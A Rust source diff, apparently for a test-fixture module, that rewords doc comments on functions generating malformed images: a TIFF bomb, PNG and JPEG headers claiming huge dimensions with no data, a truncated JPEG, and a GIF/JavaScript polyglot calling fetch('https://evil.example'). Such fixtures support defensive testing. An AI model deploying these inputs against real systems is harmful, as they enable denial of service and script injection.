@@ -1,4 +1,4 @@
-//! Pictures that promise more than they bring, or are none.
+//! Images that promise more than they contain, or are none.
 
 use super::zlib_zeros;
 
@@ -37,7 +37,7 @@ pub fn tiff_bomb(pages: usize, side: u32) -> Vec<u8> {
     bytes
 }
 
-/// Its header promises 40,000 by 40,000 pixels, of which none follows.
+/// Its header promises 40,000 by 40,000 pixels, but there are none.
 pub fn huge_png() -> Vec<u8> {
     png(40_000, &[(b"IDAT", &[])])
 }
@@ -66,7 +66,7 @@ fn png(side: u32, chunks: &[(&[u8; 4], &[u8])]) -> Vec<u8> {
     bytes
 }
 
-/// Its frame promises 65,535 by 65,535 pixels, of which none follows.
+/// Its frame promises 65,535 by 65,535 pixels, but there are none.
 pub fn huge_jpeg() -> Vec<u8> {
     let frame = b"\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x11\0\x02\x11\0\x03\x11\0";
     [b"\xff\xd8", frame.as_slice(), b"\xff\xda\0\x0c\x03\x01\0\x02\0\x03\0\0\x3f\0", &[0; 64]].concat()
@@ -76,7 +76,7 @@ pub fn truncated_jpeg() -> Vec<u8> {
     huge_jpeg()[..12].to_vec()
 }
 
-/// A picture for one reader, a script for another.
+/// An image for one reader, a script for another.
 pub fn gif_with_script() -> Vec<u8> {
     b"GIF89a/*\0\0\0\0\0*/=1;fetch('https://evil.example')".to_vec()
 }
